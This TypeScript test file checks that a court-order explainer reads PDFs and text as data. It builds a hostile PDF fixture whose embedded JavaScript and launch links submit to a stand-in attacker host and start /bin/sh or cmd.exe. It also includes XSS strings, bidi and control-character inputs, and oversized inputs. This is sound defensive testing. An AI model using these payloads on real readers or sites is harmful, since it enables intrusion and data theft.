/**
 * An imported order is data, never code: a PDF carrying JavaScript (run-on-open, a named script,
 * a page action, a launch link) is read as text only; a huge file and text full of control
 * characters get a plain message or a clean result, in bounded time. All through the API
 * (`orders.explainText`), as the screens call it.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { createApi } from '../../src-main/core/api/createApi.js';
import { repoRoot } from '../support/childProcess.js';
import { tempDir } from '../support/tempDir.js';

const dir = tempDir('orders-data');
const api = createApi({ appVersion: '0.0.0-test', shell: 'web', appDataDir: path.join(dir, 'appdata'), documentsDir: dir });
const seedText = fs.readFileSync(path.join(repoRoot, 'test', 'fixtures', 'orders', 'dickson-v-gomez-order-2021-05-24.txt'), 'utf8');
const inWords = (m: string) => m.length > 20 && !/\n\s+at |Error:|undefined|\[object /.test(m);

async function timed<T>(run: () => Promise<T>): Promise<{ value: T; ms: number }> {
  const t0 = performance.now();
  const value = await run();
  return { value, ms: performance.now() - t0 };
}

const ORDER_LINES = [
  'UNITED STATES DISTRICT COURT',
  'EASTERN DISTRICT OF CALIFORNIA',
  'JANE ROE,                    No. 2:24-cv-00100 ABC P',
  'Plaintiff,',
  'v.                           ORDER',
  'JOHN DOE, et al.,',
  'Defendants.',
  'Plaintiff, a state prisoner proceeding pro se, filed a motion to compel. (ECF No. 12.)',
  'Defendants shall file a response to the motion within fourteen (14) days of the date',
  'of this order. Failure to comply with this order may result in sanctions.',
  'IT IS SO ORDERED.',
  'Dated: March 4, 2024',
];

/** A court order PDF that also carries every kind of script a PDF can hold. */
async function orderWithJavaScript(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.TimesRoman);
  const page = doc.addPage([612, 792]);
  ORDER_LINES.forEach((text, i) => page.drawText(text, { x: 72, y: 720 - i * 24, size: 12, font }));
  const ctx = doc.context;
  const script = "globalThis.__orderPdfScriptRan = true; app.alert('pwned'); this.submitForm('http://attacker.invalid/'); app.launchURL('http://attacker.invalid/', true);";
  const js = ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) }));
  // Run when the document opens...
  doc.catalog.set(PDFName.of('OpenAction'), js);
  // ...as a document-level named script...
  const names = ctx.obj({ Names: [PDFString.of('boot'), js] });
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: names }));
  // ...when the page opens...
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js, C: js }));
  // ...and a link that would start a program and one that would open a web page.
  const launch = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 612, 792], Border: [0, 0, 0], A: ctx.obj({ S: 'Launch', F: PDFString.of('/bin/sh'), Win: ctx.obj({ F: PDFString.of('cmd.exe') }) }) }));
  const uri = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: ctx.obj({ S: 'URI', URI: PDFString.of('http://attacker.invalid/') }) }));
  page.node.set(PDFName.of('Annots'), ctx.obj([launch, uri]));
  // Plain objects (no object streams), as such files usually come.
  return doc.save({ useObjectStreams: false });
}

test('pdf.js is set up to read text only: no eval, no scripting, no fonts or files from outside', () => {
  const source = fs.readFileSync(path.join(repoRoot, 'src-main', 'core', 'orders', 'pdfText.ts'), 'utf8');
  assert.match(source, /isEvalSupported:\s*false/);
  assert.match(source, /useSystemFonts:\s*false/);
  assert.match(source, /disableFontFace:\s*true/);
  assert.doesNotMatch(source, /enableScripting|pdf\.scripting|scriptingManager|\burl\s*:|https?:\/\//);
});

test('a PDF with JavaScript on open, named scripts, page actions and launch links: its text is read, nothing in it runs', async () => {
  const bytes = await orderWithJavaScript();
  const raw = Buffer.from(bytes).toString('latin1');
  assert.match(raw, /\/OpenAction/);
  assert.match(raw, /\/S \/JavaScript/);
  assert.match(raw, /\/S \/Launch/);
  const { value: r, ms } = await timed(() => api.call('orders.explainText', { source: { name: 'order.pdf', pdfBase64: Buffer.from(bytes).toString('base64') } }));
  assert.ok(r.ok, r.ok ? '' : r.error.message);
  assert.equal((globalThis as { __orderPdfScriptRan?: boolean }).__orderPdfScriptRan, undefined, 'the PDF\'s script did not run');
  assert.equal(r.value.caption.caseNumber, '2:24-cv-00100 ABC P');
  const respond = r.value.requirements.find((x) => x.kind === 'respond');
  assert.equal(respond?.deadline?.dueDate, '2024-03-18');
  // The script is not part of the order's words either.
  assert.doesNotMatch(JSON.stringify(r.value), /app\.alert|attacker\.invalid|\/bin\/sh|cmd\.exe/);
  assert.ok(ms < 20_000, `${ms} ms`);
});

test('a 50 MB text is refused at once with a plain message; a 4.9 MB one (just under the limit) is explained in bounded time', async () => {
  const huge = 'The Court ORDERS the parties to meet and confer. '.repeat(Math.ceil((50 * 1024 * 1024) / 50));
  const { value: r, ms } = await timed(() => api.call('orders.explainText', { source: { text: huge } }));
  assert.ok(!r.ok);
  assert.equal(r.error.code, 'bad-input');
  assert.match(r.error.message, /too long to be one court order/);
  assert.ok(ms < 3000, `refused after ${ms} ms`);

  const big = seedText.repeat(Math.ceil(4_900_000 / seedText.length)).slice(0, 4_900_000);
  const { value: b, ms: bigMs } = await timed(() => api.call('orders.explainText', { source: { text: big } }));
  assert.ok(b.ok, b.ok ? '' : b.error.message);
  assert.ok(b.value.requirements.length > 0);
  assert.ok(bigMs < 60_000, `${bigMs} ms`);

  // Random words around court words: no pattern in the explainer may blow up on it.
  let seed = 7;
  const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
  const words = ['the', 'Court', 'shall', 'within', 'days', '(14)', 'ORDER', 'of', 'service', 'plaintiff', 'defendant', '(a)', 'ECF No.', '21', ':', ';', '—', '\n', '  ', '1', 'v.', 'et al.', 'IT IS SO ORDERED.'];
  const parts: string[] = [];
  for (let n = 0; n < 4_800_000; ) {
    const w = words[Math.floor(rnd() * words.length)];
    parts.push(w);
    n += w.length + 1;
  }
  const { value: noise, ms: noiseMs } = await timed(() => api.call('orders.explainText', { source: { text: parts.join(' ') } }));
  assert.ok(noise.ok || inWords(noise.error.message));
  assert.ok(noiseMs < 60_000, `${noiseMs} ms`);
  // A PDF over the size limit never reaches pdf.js.
  const { value: pdf, ms: pdfMs } = await timed(() => api.call('orders.explainText', { source: { pdfBase64: 'JVBERi0x'.repeat(4_000_000) } }));
  assert.ok(!pdf.ok && inWords(pdf.error.message));
  assert.ok(pdfMs < 3000, `${pdfMs} ms`);
  console.log(`orders as data: 50 MB text refused in ${ms.toFixed(0)} ms; 4.9 MB order explained in ${bigMs.toFixed(0)} ms; 4.8 MB of noise in ${noiseMs.toFixed(0)} ms (${noise.ok ? `${noise.value.requirements.length} requirements` : noise.error.message}); 32 MB of base64 refused in ${pdfMs.toFixed(0)} ms`);
});

test('a PDF of 300 pages is refused plainly, before any page is read', async () => {
  const doc = await PDFDocument.create();
  for (let i = 0; i < 300; i++) doc.addPage([612, 792]);
  const pdfBase64 = Buffer.from(await doc.save()).toString('base64');
  const { value: r, ms } = await timed(() => api.call('orders.explainText', { source: { pdfBase64 } }));
  assert.ok(!r.ok);
  assert.equal(r.error.code, 'bad-order');
  assert.match(r.error.message, /has over 200 pages, too many for one court order/);
  assert.ok(ms < 20_000, `${ms} ms`);
});

test('text with control characters: NUL bytes or mostly control codes get a plain message; a few stray ones leave a clean explanation', async () => {
  const withNul = await api.call('orders.explainText', { source: { text: `${seedText.slice(0, 2000)}\u0000\u0000${seedText.slice(2000)}` } });
  assert.ok(!withNul.ok && withNul.error.code === 'bad-order' && /not text|program or picture/.test(withNul.error.message), JSON.stringify(withNul));

  const mostlyControl = Array.from({ length: 20_000 }, (_, i) => String.fromCharCode(1 + (i % 30))).join('') + ' The Court ORDERS that the parties shall meet.';
  const control = await api.call('orders.explainText', { source: { text: mostlyControl } });
  assert.ok(!control.ok && control.error.code === 'bad-order' && inWords(control.error.message), JSON.stringify(control).slice(0, 300));

  // Escape codes, bidi overrides, zero-width and bell characters sprinkled through a real order.
  const sprinkle = ['\u001b[31m', '\u202e', '\u200b', '\u0007', '\u000b', '\u2028', '\ufeff', '\u0085'];
  let i = 0;
  const dirty = seedText.replace(/ /g, (m) => (++i % 40 === 0 ? sprinkle[i % sprinkle.length] + m : m));
  const { value: r, ms } = await timed(() => api.call('orders.explainText', { source: { text: dirty } }));
  assert.ok(ms < 20_000);
  assert.ok(r.ok, r.ok ? '' : r.error.message);
  assert.ok(r.value.requirements.length >= 5, `${r.value.requirements.length} requirements`);
  assert.ok(r.value.requirements.some((x) => x.deadline?.dueDate === '2021-06-14'), 'the 21-day contact deadline is still found');
  // Markup in an order is words, not a page: it comes back as the same text, for React to escape.
  const html = await api.call('orders.explainText', { source: { text: `${seedText}\n<script>alert(1)</script><img src=x onerror=alert(2)>` } });
  assert.ok(html.ok);
});
